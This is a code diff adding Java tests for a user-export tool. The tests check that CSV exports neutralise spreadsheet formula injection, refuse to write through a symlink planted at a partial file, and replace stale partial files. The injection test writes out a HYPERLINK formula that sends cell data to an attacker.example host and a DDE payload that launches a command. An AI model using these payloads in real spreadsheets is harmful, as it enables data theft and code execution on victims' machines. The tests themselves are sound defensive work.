@@ -145,6 +145,67 @@ class ReportingCommandsTests {
 	}
 
 	@Test
+	void aFormulaInAUsersNameReachesTheCsvAsTextNotAsAFormula() throws Exception {
+		// given: Zoho users choose their own names
+		ZohoUsersListing.fromFixtures()
+			.set("225013", "full_name", "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")")
+			.set("225013", "first_name", "@SUM(1+1)*cmd|' /C calc'!A0")
+			.set("225013", "last_name", "-2+3")
+			.set("227013", "full_name", "+1")
+			.stub(this.fixture);
+		this.fixture.run("test");
+
+		// when
+		Result export = JarProcess.inProcess("export", "--format", "csv");
+		Result json = JarProcess.inProcess("export", "--format", "json");
+
+		// then: each such cell starts with an apostrophe (OWASP, "CSV Injection")
+		assertThat(export.exitCode()).isZero();
+		assertThat(export.stdout()).contains(
+				",\"'=HYPERLINK(\"\"http://attacker.example/?\"\"&A1,\"\"Click\"\")\",'@SUM(1+1)*cmd|' /C calc'!A0,'-2+3,")
+			.contains(",'+1,")
+			.doesNotContain(",=", ",+", ",-", ",@");
+		// JSON is not a spreadsheet: it keeps the names as they are
+		assertThat(json.stdout()).contains("\"first_name\":\"@SUM(1+1)*cmd|' /C calc'!A0\"");
+	}
+
+	@Test
+	void anExportNeverWritesThroughALinkPlantedAtItsPartialFile() throws Exception {
+		// given: another account, able to write the directory, links the partial file
+		// to a file of ours
+		this.fixture.complete("test", "users-page-", 4);
+		Path victim = Files.writeString(this.directory.resolve("authorized_keys"), "ssh-ed25519 AAAAC3Nz owner@host\n");
+		Path partial = Files.createSymbolicLink(this.directory.resolve(".users.csv.partial"), victim);
+		Path file = this.directory.resolve("users.csv");
+
+		// when
+		Result export = JarProcess.inProcess("export", "--format", "csv", "--output", file.toString());
+
+		// then: refused, the link left as it was for the owner to look at
+		assertThat(export.exitCode()).isEqualTo(2);
+		assertThat(export.stderr()).contains(partial + " exists and is not a file of this account");
+		assertThat(victim).hasContent("ssh-ed25519 AAAAC3Nz owner@host\n");
+		assertThat(Files.isSymbolicLink(partial)).isTrue();
+		assertThat(file).doesNotExist();
+	}
+
+	@Test
+	void aPartialFileACrashedExportLeftIsReplaced() throws Exception {
+		// given
+		this.fixture.complete("test", "users-page-", 4);
+		Files.writeString(this.directory.resolve(".users.csv.partial"), "half an export");
+		Path file = this.directory.resolve("users.csv");
+
+		// when
+		Result export = JarProcess.inProcess("export", "--format", "csv", "--output", file.toString());
+
+		// then
+		assertThat(export.exitCode()).as(export.stderr()).isZero();
+		assertThat(Files.readAllLines(file)).hasSize(11).first().isEqualTo(USERS_HEADER);
+		assertThat(this.directory).isDirectoryNotContaining(path -> path.getFileName().toString().endsWith(".partial"));
+	}
+
+	@Test
 	void exportWritesJsonWithEveryColumnInOrderAndExplicitNulls() throws Exception {
 		// given
 		this.fixture.complete("test", "users-page-", 4);
